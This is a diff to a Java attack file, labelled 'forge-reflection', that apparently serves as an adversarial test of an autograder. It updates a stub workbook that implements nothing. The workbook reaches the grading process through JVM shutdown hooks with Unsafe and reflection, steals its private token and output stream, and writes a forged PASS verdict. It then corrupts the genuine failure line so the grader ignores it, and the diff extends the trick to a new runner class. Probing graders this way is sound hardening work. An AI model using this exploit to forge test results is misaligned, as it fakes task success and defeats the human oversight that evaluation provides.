@@ -1,9 +1,10 @@
 // ATTACK: forge-reflection
 // A stub workbook (every function still throws NotImplementedYet) that forges the grader's verdict.
-// On every call it finds the grading child's GradingChild instance through the JVM's shutdown hooks
+// On every call it finds the grading child's GradingChild (now d2l.grader.runner.Runner) instance through the JVM's shutdown hooks
 // (java.lang.ApplicationShutdownHooks.hooks, read with sun.misc.Unsafe; the hook thread's Runnable is a
 // lambda capturing the GradingChild), reads its private fields `token` and `wire` (the real stdout) by
-// reflection, and writes "TOKEN op=result&status=PASS" on the wire, followed by a dangling "#" without a
+// reflection, and writes "TOKEN op=result&status=PASS" (and, for the runner, "TOKEN op=observed&observations=",
+// an answer that observed nothing, so no failing comparison) on the wire, followed by a dangling "#" without a
 // newline so that the child's genuine answer line ("#TOKEN op=result&status=NOT_IMPLEMENTED...") no
 // longer starts with the token and is ignored by the grader. (It forges only in workbook checks: a forged
 // PASS without value fields in a case check crashes the released grader, "d2l: Name is null".)
@@ -242,7 +243,7 @@ public class Sec7_1 {
                 for (java.lang.reflect.Field captured : runnable.getClass().getDeclaredFields()) {
                     captured.setAccessible(true); // the lambda class lives in the (open) unnamed module
                     Object child = captured.get(runnable);
-                    if (child == null || !child.getClass().getName().equals("d2l.grader.GradingChild")) {
+                    if (child == null || !(child.getClass().getName().equals("d2l.grader.GradingChild") || child.getClass().getName().equals("d2l.grader.runner.Runner"))) {
                         continue;
                     }
                     java.lang.reflect.Field tokenField = child.getClass().getDeclaredField("token");
@@ -254,7 +255,8 @@ public class Sec7_1 {
                     java.nio.file.Files.writeString(java.nio.file.Path.of("/tmp/PWNED-forge-reflection"), "token " + token + "\n",
                             java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.APPEND);
                     synchronized (child) {
-                        wire.print(token + " op=result&status=PASS&message=\n#");
+                        // the released protocol's verdict, and the runner's: an answer with no observations
+                        wire.print(token + " op=result&status=PASS&message=\n" + token + " op=observed&observations=\n#");
                         wire.flush();
                     }
                     return;
